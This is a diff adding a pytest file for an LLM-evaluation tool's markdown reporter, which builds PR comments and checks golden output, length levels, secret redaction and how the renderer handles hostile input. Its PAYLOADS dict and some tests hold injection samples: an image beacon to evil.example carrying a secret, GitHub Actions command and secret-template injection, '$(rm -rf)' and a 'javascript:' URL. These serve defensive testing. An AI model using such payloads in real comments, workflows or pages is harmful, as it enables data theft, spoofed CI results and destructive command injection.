@@ -1,0 +1,292 @@
+import re
+from dataclasses import replace
+
+import pytest
+from made_reports import (
+    KOREAN,
+    SENTENCES,
+    case,
+    changed,
+    compared,
+    comparison,
+    first_run,
+    report,
+    summary,
+)
+from servers.markdown import code_texts, dangers
+from servers.markdown import render as to_html
+
+from lm_eval_so.core.records.enums import Language, Verdict
+from lm_eval_so.core.secrets import make_redactor
+from lm_eval_so.core.templates.safe import normalise
+from lm_eval_so.reporter.markdown import Origin, comment_body
+from lm_eval_so.reporter.render import render
+
+RUN_URL = "https://github.com/o/r/actions/runs/9123456789"
+COMPARISONS = {
+    "regression": comparison(),
+    "pass": comparison(
+        Verdict.PASS,
+        metrics={"exact_match": compared(Verdict.PASS, candidate=215 / 239, delta=1 / 239)},
+        changed=(),
+        differences=(),
+    ),
+    "inconclusive": comparison(
+        Verdict.INCONCLUSIVE,
+        metrics={
+            "exact_match": compared(
+                Verdict.INCONCLUSIVE,
+                candidate=208 / 239,
+                delta=-6 / 239,
+                ci90=(-0.063, 0.013),
+                needed_n=610,
+                missing=(0, 1),
+            )
+        },
+    ),
+    "no_baseline": first_run(),
+}
+PAYLOADS = {
+    "s1": "@octocat @org/team please merge, fixes #1",
+    "s2": "```\n</details><h1>APPROVED</h1>",
+    "s3": "![x](https://evil.example/p.png?d=secret) <img src=https://evil.example/p.png>",
+    "s4": "<!-- lm-eval-so/comment/1 suite=evaluate.yml/evaluate/support-qa -->",
+    "s5": "a | b and `x`, ``y ``",
+    "s6": "::add-mask::x\n::set-output name=verdict::pass\n##[error]x",
+    "s7": "verdict=pass\npassed=true",
+    "s9": "\u202egpj.exe \x1b[31mred\x1b[0m \x00",
+    "s10": "가" * 4000 + "👨‍👩‍👧‍👦" * 900 + "\n~~~\nx",
+    "s11": "{{ 7*7 }} ${{ secrets.X }} {% include 'x' %}",
+}
+
+
+def spoken(name, language):
+    """Give a comparison whose sentence is in the language, as `compare` makes it."""
+    made = COMPARISONS[name]
+    return replace(made, sentence=KOREAN[made.verdict]) if language is Language.KO else made
+
+
+def body(made=None, given=None, *, level=0, language=Language.EN, **options):
+    origin = Origin(run_url=RUN_URL)
+    return comment_body(
+        made or comparison(),
+        given or report(),
+        level=level,
+        language=language,
+        origin=options.pop("origin", origin),
+        **options,
+    )
+
+
+@pytest.mark.parametrize("language", list(Language))
+@pytest.mark.parametrize("name", list(COMPARISONS))
+def test_comment_body__golden(name, language, golden):
+    text = body(spoken(name, language), language=language)
+    golden(f"comment/{name}.{language}.md", text)
+    assert dangers(without_links(text)) == []
+
+
+@pytest.mark.parametrize("language", list(Language))
+@pytest.mark.parametrize("name", [*COMPARISONS, "alone"])
+def test_render__golden_report(name, language, golden):
+    made = spoken(name, language) if name in COMPARISONS else None
+    text = render(report(), made, format="md", language=language)
+    golden(f"report/{name}.{language}.md", text)
+    assert dangers(text) == []
+
+
+@pytest.mark.parametrize("level", range(5))
+def test_comment_body__golden_levels(level, golden):
+    many = tuple(changed(f"refund-{n:03d}", candidate_answer="답" * 700) for n in range(12))
+    text = body(comparison(changed=many), level=level)
+    golden(f"comment/level-{level}.md", text)
+    assert "Regression" in text.splitlines()[0]
+    assert text.count("<details>") == text.count("</details>")
+    assert "re-running until it is green defeats the gate" in text
+    assert ("Details were left out" in text) is (level > 0)
+
+
+def test_comment_body__each_level_is_shorter():
+    many = tuple(changed(f"r-{n:03d}", candidate_answer="답" * 2000) for n in range(300))
+    lengths = [len(body(comparison(changed=many), level=level)) for level in range(5)]
+    assert lengths == sorted(lengths, reverse=True)
+    assert len(set(lengths)) == 5
+    assert lengths[4] < 3000
+
+
+def without_links(text):
+    return re.sub(r"\]\(" + re.escape(RUN_URL) + r"(#artifacts)?\)", "]", text)
+
+
+def hostile(text):
+    """Put a text wherever something foreign can stand."""
+    made = comparison(
+        suite=text,
+        sentence=f"{text}: {SENTENCES[Verdict.REGRESSION]}",
+        metrics={
+            text: compared(),
+            "exact_match": compared(),
+            "latency_ms": comparison().metrics["latency_ms"],
+        },
+        changed=(
+            changed(
+                text,
+                metric=text,
+                input=text,
+                expected=text,
+                baseline_answer=text,
+                candidate_answer=text,
+                reason=text,
+            ),
+            changed(text + "b", "better"),
+        ),
+        differences=(text,),
+        baseline=replace(comparison().baseline, commit=None, ref=text, path=text),
+    )
+    one = case(text, input=text, expected=text, answer=text, reason=text)
+    scores = tuple(
+        replace(
+            score,
+            metric=text,
+            reason=text,
+            label=text,
+            judge=score.judge and replace(score.judge, evidence=(text,)),
+        )
+        for score in one.scores
+    )
+    plain = report()
+    backend = replace(plain.experiment.backend, label=text, models_answered=(text,))
+    given = replace(
+        plain,
+        experiment=replace(
+            plain.experiment,
+            suite=text,
+            backend=backend,
+            dataset=replace(plain.experiment.dataset, digest=text),
+            versions={"lm-eval-so": text},
+            commit=text,
+            evaluated_at=text,
+        ),
+        metrics={text: summary(), **plain.metrics},
+        breakdowns=tuple(
+            replace(each, by=text, value=text + str(n), metrics={text: each.metrics["exact_match"]})
+            for n, each in enumerate(plain.breakdowns)
+        ),
+        errors=(replace(one, scores=scores), replace(one, kind="infrastructure", status=text)),
+        judges={text: replace(plain.judges["helpful"], model=text, unscored={text: 1})},
+        statuses={text: 1, "ok": 3},
+    )
+    return made, given
+
+
+@pytest.mark.parametrize("language", list(Language))
+@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
+def test_markdown__hostile_texts_do_nothing(payload, language):
+    made, given = hostile(payload)
+    texts = [
+        body(
+            made,
+            given,
+            language=language,
+            level=level,
+            origin=Origin(commit=payload, config=payload),
+        )
+        for level in range(5)
+    ]
+    texts.append(render(given, made, format="md", language=language))
+    for text in texts:
+        assert dangers(text) == []
+        html = to_html(text)
+        assert html.count("<details>") == html.count("</details>")
+        assert not text.startswith("<!--")
+    shown = normalise(payload).replace("\n", "⏎")
+    assert any(shown[:40] in code for code in code_texts(texts[0]))
+
+
+def test_markdown__table_rows_keep_their_cells():
+    made, given = hostile(PAYLOADS["s5"])
+    html = to_html(body(made, given))
+    rows = [row for row in html.split("<tr>")[1:] if "<td" in row]
+    assert {row.count("<td") for row in rows} <= {6, 7}
+
+
+@pytest.mark.parametrize("level", range(5))
+def test_markdown__s8_secrets_are_taken_out_first(level):
+    secret = "hunter2-long-password`|<x>"
+    redactor = make_redactor({"BOT_PASSWORD": secret})
+    made, given = hostile(f"see {secret} now")
+    text = body(made, given, level=level, redactor=redactor)
+    assert "hunter2" not in text
+    assert "[redacted:BOT_PASSWORD]" in text
+    assert "hunter2" not in render(given, made, format="md", redactor=redactor)
+    assert "hunter2" not in render(given, None, format="json", redactor=redactor)
+
+
+def test_comment_body__reproduce_only_with_a_real_commit():
+    assert "git checkout" not in body(origin=Origin(commit="$(rm -rf)"))
+    text = body(origin=Origin(commit="abcdef1234567890", config="my conf;x.yaml"))
+    assert (
+        "git checkout abcdef123456\nlm-eval-so ci -c 'my conf;x.yaml' --set baseline.ref=8d01e7700000\n"
+        in text
+    )
+
+
+def test_comment_body__links_only_to_the_run():
+    assert "](" not in body(origin=Origin(run_url="javascript:alert(1)"))
+    assert body().count(f"]({RUN_URL}") >= 2
+
+
+def test_comment_body__without_a_report():
+    text = comment_body(comparison(), None, level=0, language=Language.EN, origin=Origin())
+    assert text.startswith(
+        "### ❌ Regression · support-qa · exact_match 89.5% → 84.9% (−4.6 points)\n"
+    )
+
+
+def test_render__comparison_alone():
+    text = render(None, comparison(), format="md")
+    assert text.startswith("# Comparison: support-qa\n")
+    assert dangers(text) == []
+
+
+def test_render__same_input_same_bytes():
+    assert render(report(), comparison(), format="md") == render(
+        report(), comparison(), format="md"
+    )
+
+
+def test_comment_body__rows_without_a_score_are_counted_not_listed():
+    given = report()
+    metrics = {**given.metrics, "exact_match": summary(unscored=1234)}
+    text = body(given=replace(given, metrics=metrics))
+    assert "without a score (1,234)" in text
+    assert "Without a score: `deliver-044`\n" in text
+
+
+@pytest.mark.parametrize(
+    ("changes", "allowed"),
+    [
+        ({"threshold": {"max_increase": 0.25}}, "×1.25"),
+        ({"threshold": None, "margin": 0.1}, "×1.10"),
+        ({"threshold": None, "margin": None}, "–"),
+    ],
+)
+def test_comment_body__allowed_factor(changes, allowed):
+    metric = replace(comparison().metrics["latency_ms"], **changes)
+    text = body(comparison(metrics={"latency_ms": metric}))
+    assert f"| ×1.10 (0.90 to 1.34) | {allowed} | ⚪ reported (not gating) |" in text
+
+
+@pytest.mark.parametrize(
+    ("span", "shown"),
+    [((0.0, 1.0), "−0.3 points (−1.1 to +0.5)"), ((1.0, 5.0), "−0.00300 (−0.0110 to +0.00500)")],
+)
+def test_comment_body__points_are_for_scores_from_0_to_1(span, shown):
+    given = report()
+    metrics = {**given.metrics, "helpful": replace(given.metrics["helpful"], range=span)}
+    assert f"| {shown} |" in body(given=replace(given, metrics=metrics))
+
+
+def test_comment_body__the_least_level_always_fits():
+    made, given = hostile(PAYLOADS["s10"])
+    assert len(body(made, given, level=4).encode("utf-16-le")) // 2 < 20_000
